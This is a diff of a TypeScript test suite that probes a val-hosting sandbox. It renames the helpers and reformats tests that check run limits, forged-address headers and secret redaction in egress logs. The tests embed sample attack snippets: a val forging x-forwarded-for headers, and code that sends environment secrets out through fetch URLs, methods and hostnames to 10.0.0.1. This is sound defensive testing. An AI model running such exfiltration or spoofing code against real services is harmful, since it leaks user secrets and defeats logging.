@@ -1,8 +1,8 @@
 import { afterAll, expect } from "bun:test"
+import { waitUntil } from "../support/wait-until.ts"
+import { describeAttacks, probe } from "./support/describe-attacks.ts"
+import { createEvalVal } from "./support/eval-val.ts"
 import { OutsideServer } from "./support/outside-server.ts"
-import { createPuppet } from "./support/puppet.ts"
-import { describeVillage, probe } from "./support/test-village.ts"
-import { waitUntil } from "./support/wait.ts"
 
 const outside = await OutsideServer.listen()
 const up = `localhost:${outside.port}`
@@ -28,13 +28,13 @@ const chains: Readonly<Record<string, string>> = {
   "through the API": `fetch(Deno.env.get("HAMLET_URL") + "/v1/vals", { headers: { authorization: "Bearer " + Deno.env.get("HAMLET_TOKEN") } }).then(() => fetch(url)).catch(() => {})`,
 }
 
-describeVillage(
+describeAttacks(
   "what a val tries with its runs",
   { HAMLET_EGRESS_ALLOW: up, HAMLET_ADDRESS_HEADER: "x-forwarded-for" },
-  (village) => {
+  (getServer) => {
     for (const [index, [how, code]] of Object.entries(chains).entries())
-      probe(village, `a val tries to call itself for ever ${how}`, async (place) => {
-        const val = await place.save(place.bob, {
+      probe(getServer, `a val tries to call itself for ever ${how}`, async (server) => {
+        const val = await server.save(server.bob, {
           code: `const tasks = []
 let wake = () => {}
 let hasBegun = false
@@ -49,7 +49,7 @@ export default async function (request) {
   return "fine"
 }`,
         })
-        expect((await place.visit(val)).text).toBe("fine")
+        expect((await server.request(val)).text).toBe("fine")
         const count = () => outside.seen(`/chain${index}.`).length
         // It would not be one that goes on if it did not even begin.
         await waitUntil(() => count() > 1)
@@ -62,29 +62,36 @@ export default async function (request) {
         expect(last).toBeLessThanOrEqual(runsMax)
       })
 
-    probe(village, "a val tries to be taken for a visitor with another address", async (place) => {
-      const seer = await place.save(place.ada, {
-        code: `export default (request) => Object.fromEntries(request.headers)`,
-      })
-      const puppet = await createPuppet(place)
-      const { got } = await puppet.act(
-        `return await (await fetch("http://${seer.host}/", { headers: { "x-forwarded-for": "6.6.6.6", "X-Forwarded-Host": "forged", "x-real-ip": "6.6.6.6", forwarded: "for=6.6.6.6" } })).json()`,
-      )
-      expect(got).toMatchObject({
-        "x-forwarded-for": expect.stringMatching(/^(127\.0\.0\.1|::1)$/),
-        "x-forwarded-host": seer.host,
-      })
-      expect(JSON.stringify(got)).not.toContain("6.6.6.6")
-    })
+    probe(
+      getServer,
+      "a val tries to be taken for a visitor with another address",
+      async (server) => {
+        const seer = await server.save(server.ada, {
+          code: `export default (request) => Object.fromEntries(request.headers)`,
+        })
+        const evalVal = await createEvalVal(server)
+        const { got } = await evalVal.evaluate(
+          `return await (await fetch("http://${seer.host}/", { headers: { "x-forwarded-for": "6.6.6.6", "X-Forwarded-Host": "forged", "x-real-ip": "6.6.6.6", forwarded: "for=6.6.6.6" } })).json()`,
+        )
+        expect(got).toMatchObject({
+          "x-forwarded-for": expect.stringMatching(/^(127\.0\.0\.1|::1)$/),
+          "x-forwarded-host": seer.host,
+        })
+        expect(JSON.stringify(got)).not.toContain("6.6.6.6")
+      },
+    )
 
-    probe(village, "a val tries to write its secrets into the record of its run", async (place) => {
-      const carol = await place.addVillager("carol")
-      const secrets = { PLAIN: "SECRETVALUE", ODD: "se cret/va+lue&ü" }
-      for (const [name, value] of Object.entries(secrets))
-        await place.call("PUT", `/v1/me/secrets/${name}`, { as: carol, body: { value } })
-      const puppet = await createPuppet(place, carol)
-      const { runId } =
-        await puppet.act(`for (const value of [Deno.env.get("PLAIN"), Deno.env.get("ODD")])
+    probe(
+      getServer,
+      "a val tries to write its secrets into the record of its run",
+      async (server) => {
+        const carol = await server.addUser("carol")
+        const secrets = { PLAIN: "SECRETVALUE", ODD: "se cret/va+lue&ü" }
+        for (const [name, value] of Object.entries(secrets))
+          await server.call("PUT", `/v1/me/secrets/${name}`, { as: carol, body: { value } })
+        const evalVal = await createEvalVal(server, carol)
+        const { runId } =
+          await evalVal.evaluate(`for (const value of [Deno.env.get("PLAIN"), Deno.env.get("ODD")])
       for (const [url, init] of [
         ["http://10.0.0.1/" + value],
         ["http://10.0.0.1/" + encodeURIComponent(value)],
@@ -93,20 +100,21 @@ export default async function (request) {
         ["http://10.0.0.1/", { method: value }],
         ["http://" + value + ".invalid:99999/"],
       ]) await fetch(url, init).catch(() => {})`)
-      const run = await place.endedRun(runId, carol)
-      expect(run.egress.list.length).toBe(9)
-      const texts = run.egress.list.flatMap(({ url, method }: { url: string; method: string }) => [
-        url,
-        method,
-      ])
-      for (const value of Object.values(secrets))
-        expect(
-          texts.filter(
-            (text: string) =>
-              text.includes(value) || decodeURIComponent(text.replaceAll("+", " ")).includes(value),
-          ),
-        ).toEqual([])
-      expect(texts.filter((text: string) => text.includes("[secret PLAIN]")).length).toBe(5)
-    })
+        const run = await server.endedRun(runId, carol)
+        expect(run.egress.list.length).toBe(9)
+        const texts = run.egress.list.flatMap(
+          ({ url, method }: { url: string; method: string }) => [url, method],
+        )
+        for (const value of Object.values(secrets))
+          expect(
+            texts.filter(
+              (text: string) =>
+                text.includes(value) ||
+                decodeURIComponent(text.replaceAll("+", " ")).includes(value),
+            ),
+          ).toEqual([])
+        expect(texts.filter((text: string) => text.includes("[secret PLAIN]")).length).toBe(5)
+      },
+    )
   },
 )
